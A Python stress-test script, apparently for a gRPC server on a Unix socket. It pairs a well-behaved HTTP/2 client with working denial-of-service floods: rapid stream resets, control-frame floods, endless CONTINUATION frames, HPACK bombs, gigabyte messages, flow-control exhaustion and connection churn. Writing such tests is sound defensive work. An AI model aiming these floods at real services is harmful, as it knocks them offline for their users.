# SPDX-License-Identifier: Apache-2.0
"""HTTP/2 by hand: a client of good will, and a program that sends what no such client sends.

Arguments: the path of the victim's socket, the name of an attack, for how many seconds, and any fourth
one for a flood that reads what it is answered.
"""

import contextlib
import itertools
import os
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_HEADERS, END_STREAM, ACK = 0x4, 0x1, 0x1
LARGEST = 2**31 - 1


def headers(method):
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", f"/Victim/{method}"),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def frame(kind, payload=b"", flags=0, stream=0):
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def block(method):
    """A header block that changes no state of HPACK, so that it can be sent any number of times."""
    encoder = hpack.Encoder()
    return encoder.encode([hpack.NeverIndexedHeaderTuple(*pair) for pair in headers(method)])


def setting(number, value):
    return number.to_bytes(2) + value.to_bytes(4)


def connect(path):
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(20)
    while True:
        try:
            connection.connect(str(path))
        except BlockingIOError:  # more wait there already than the kernel keeps
            time.sleep(0.001)
        else:
            return connection


def open_http2(path, settings=b""):
    connection = connect(path)
    connection.sendall(PREFACE + frame(SETTINGS, settings))
    return connection


class GoodClient:
    """Calls `Echo` over one connection, one call after another."""

    def __init__(self, path):
        self._socket = connect(path)
        self._http2 = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
        self._http2.initiate_connection()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self._socket.close()

    def call(self, message=b"hello"):
        """Returns the gRPC status."""
        stream = self._http2.get_next_available_stream_id()
        self._http2.send_headers(stream, headers("Echo"))
        self._http2.send_data(stream, b"\0" + len(message).to_bytes(4) + message, end_stream=True)
        self._socket.sendall(self._http2.data_to_send())
        status = None
        while True:
            data = self._socket.recv(65536)
            if not data:
                raise ConnectionResetError("the victim closed the connection of its good client")
            for event in self._http2.receive_data(data):
                if isinstance(event, h2.events.DataReceived):
                    self._http2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                if isinstance(event, h2.events.TrailersReceived | h2.events.ResponseReceived):
                    status = dict(event.headers).get("grpc-status", status)
                if isinstance(event, h2.events.StreamEnded) and event.stream_id == stream:
                    self._socket.sendall(self._http2.data_to_send())
                    return status
            if waiting := self._http2.data_to_send():
                self._socket.sendall(waiting)


# What follows the preface: pieces without end.


def resets():
    request = block("Echo")
    for first in itertools.count(1, 200):
        yield b"".join(
            frame(HEADERS, request, END_HEADERS, s) + frame(RST, b"\0\0\0\x08", 0, s)
            for s in range(first, first + 200, 2)
        )


def pings():
    return itertools.repeat(frame(PING, b"abcdefgh") * 1000)


def settings():
    return itertools.repeat(frame(SETTINGS, setting(4, 65535)) * 1000)


def priorities():
    return itertools.repeat(frame(PRIORITY, b"\0\0\0\0\x10", stream=1) * 1000)


def windows():
    return itertools.repeat(frame(WINDOW, b"\0\0\0\x01") * 1000)


def continuations():
    yield frame(HEADERS, block("Echo"), 0, 1)
    # A literal header of which no end comes.
    yield from itertools.repeat(frame(CONTINUATION, b"\0\x01a\x01b" * 3200, 0, 1) * 8)


def empty_continuations():
    yield frame(HEADERS, block("Echo"), 0, 1)
    yield from itertools.repeat(frame(CONTINUATION, b"", 0, 1) * 1000)


def hpack_bomb():
    """One header of 4 kB in the dynamic table, then a reference to it, a byte each."""
    yield frame(HEADERS, block("Echo") + b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000, END_HEADERS, 1)
    for stream in itertools.count(3, 2):
        yield frame(HEADERS, block("Echo") + b"\xbe" * 16000, END_HEADERS, stream)


def static_hpack_bomb():
    """References to a field that HPACK knows by itself: no table of ours helps against it."""
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, block("Echo") + b"\x90" * 16000, END_HEADERS, stream)


def huge_message():
    """A message of 1 GiB is announced, and comes."""
    yield frame(HEADERS, block("Echo"), END_HEADERS, 1)
    yield frame(DATA, b"\0" + (2**30).to_bytes(4), 0, 1)
    yield from itertools.repeat(frame(DATA, b"x" * 16384, 0, 1) * 4)


def huge_messages():
    """The same on ever new streams."""
    for stream in itertools.count(1, 2):
        yield (
            frame(HEADERS, block("Echo"), END_HEADERS, stream)
            + frame(DATA, b"\0" + (2**30).to_bytes(4) + b"x" * 1024, 0, stream)
        )


def unread_answers():
    """Ever more answers are asked for, there is room for all of them, and none is read."""
    yield frame(SETTINGS, setting(4, LARGEST)) + frame(WINDOW, LARGEST.to_bytes(4))
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, block("Follow"), END_HEADERS, stream) + frame(
            DATA, b"\0" * 5, END_STREAM, stream
        )


def zero_windows():
    """The same without room for a single byte."""
    yield frame(SETTINGS, setting(4, 0))
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, block("Follow"), END_HEADERS, stream) + frame(
            DATA, b"\0" * 5, END_STREAM, stream
        )


FLOODS = (
    resets,
    pings,
    settings,
    priorities,
    windows,
    continuations,
    empty_continuations,
    hpack_bomb,
    static_hpack_bomb,
    huge_message,
    huge_messages,
    unread_answers,
    zero_windows,
)


def flood(path, pieces, seconds, *, reads):
    """Send until the time is over, over ever new connections; returns how often we were cut off."""
    cut_off = 0
    until = time.monotonic() + seconds
    while (left := until - time.monotonic()) > 0:
        with contextlib.closing(open_http2(path)) as connection:
            connection.settimeout(left)
            try:
                for piece in pieces():
                    connection.sendall(piece)
                    if reads:
                        drain(connection)
                    if time.monotonic() >= until:
                        break
            except TimeoutError:  # held back to the end
                break
            except (BrokenPipeError, ConnectionResetError):
                cut_off += 1
    return cut_off


def hang_ups(path, seconds):
    """Close connections after each kind of beginning."""
    request = frame(HEADERS, block("Follow"), END_HEADERS, 1) + frame(DATA, b"\0" * 5, END_STREAM, 1)
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for opening in (b"", PREFACE[:10], PREFACE, PREFACE + frame(SETTINGS) + request):
            with contextlib.closing(connect(path)) as connection:
                connection.sendall(opening)


def deaths(path, seconds):
    """Processes that connect and exit at once."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for number in range(20):
            if os.fork() == 0:
                connection = connect(path)
                if number % 2:
                    connection.send(PREFACE[:10])
                os._exit(0)
        with contextlib.suppress(ChildProcessError):
            while True:
                os.wait()


def drain(connection):
    while select.select([connection], [], [], 0)[0] and connection.recv(65536):
        pass


if __name__ == "__main__":
    socket_path, name, length, *reading = sys.argv[1:]
    attack = globals()[name]
    if attack in FLOODS:
        print(flood(socket_path, attack, float(length), reads=bool(reading)))
    else:
        attack(socket_path, float(length))
